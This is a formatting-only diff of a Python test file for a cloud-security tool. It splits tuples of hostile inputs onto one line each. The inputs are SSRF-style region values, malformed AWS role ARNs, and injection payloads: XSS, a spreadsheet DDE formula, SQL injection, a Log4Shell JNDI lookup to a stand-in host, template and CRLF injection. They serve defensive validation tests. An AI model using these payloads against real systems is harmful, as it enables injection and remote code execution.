@@ -16,21 +16,54 @@ from cloudsealed.collectors.aws.access import AwsAccess, AwsSession
 from cloudsealed.vocabulary import Role
 
 HOSTILE_REGIONS = (
-    "x.evil.example/", "us-east-1@evil", "us-east-1.evil.example", "evil.example#", "127.0.0.1",
-    "us-east-1/../..", "us-east-1:80", "us-east-1\n", " us-east-1", "US-EAST-1", "us-east-1\x7f",
-    "169.254.169.254", "[::1]", "us-east-1%2eevil.example", "", "a" * 300, "https://evil.example",
-)  # fmt: skip
+    "x.evil.example/",
+    "us-east-1@evil",
+    "us-east-1.evil.example",
+    "evil.example#",
+    "127.0.0.1",
+    "us-east-1/../..",
+    "us-east-1:80",
+    "us-east-1\n",
+    " us-east-1",
+    "US-EAST-1",
+    "us-east-1\x7f",
+    "169.254.169.254",
+    "[::1]",
+    "us-east-1%2eevil.example",
+    "",
+    "a" * 300,
+    "https://evil.example",
+)
 HOSTILE_ROLES = (
-    "https://evil.example/role", "arn:aws:iam::123456789012:role/a b", "arn:aws:iam::1:role/a",
-    "arn:evil:iam::123456789012:role/a", "arn:aws:iam::123456789012:user/a",
-    "arn:aws:iam::123456789012:role/a\n", "arn:aws:sts::123456789012:role/a", "169.254.169.254",
-)  # fmt: skip
+    "https://evil.example/role",
+    "arn:aws:iam::123456789012:role/a b",
+    "arn:aws:iam::1:role/a",
+    "arn:evil:iam::123456789012:role/a",
+    "arn:aws:iam::123456789012:user/a",
+    "arn:aws:iam::123456789012:role/a\n",
+    "arn:aws:sts::123456789012:role/a",
+    "169.254.169.254",
+)
 ROLE = "arn:aws:iam::123456789012:role/a"
 HOSTILE_NAMES = (
-    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "#eval(sys)",
-    '"; DROP TABLE findings; --', "${jndi:ldap://evil.example}", "{{7*7}}", "\u202egnp.exe",
-    "\x1b[31mred", "a\x00b", "line\r\nSet-Cookie: x=1", "\ud7ff\uffff", "😀" * 200, "\\u0000", "",
-)  # fmt: skip
+    "<script>alert(1)</script>",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "+1",
+    "-1",
+    "#eval(sys)",
+    '"; DROP TABLE findings; --',
+    "${jndi:ldap://evil.example}",
+    "{{7*7}}",
+    "\u202egnp.exe",
+    "\x1b[31mred",
+    "a\x00b",
+    "line\r\nSet-Cookie: x=1",
+    "\ud7ff\uffff",
+    "😀" * 200,
+    "\\u0000",
+    "",
+)
 
 
 @pytest.fixture
@@ -103,9 +136,11 @@ def _whole_flow(site: Site, address: str) -> None:
     tokens = site.redeem(app, code, redirect_uri=address)
     assert tokens.status_code == 200, tokens.text
     site.post(
-        "/oauth/revoke", token=tokens.json()["refresh_token"], client_id=app["client_id"],
+        "/oauth/revoke",
+        token=tokens.json()["refresh_token"],
+        client_id=app["client_id"],
         client_secret=app["client_secret"],
-    )  # fmt: skip
+    )
 
 
 @pytest.mark.parametrize("name", HOSTILE_NAMES)
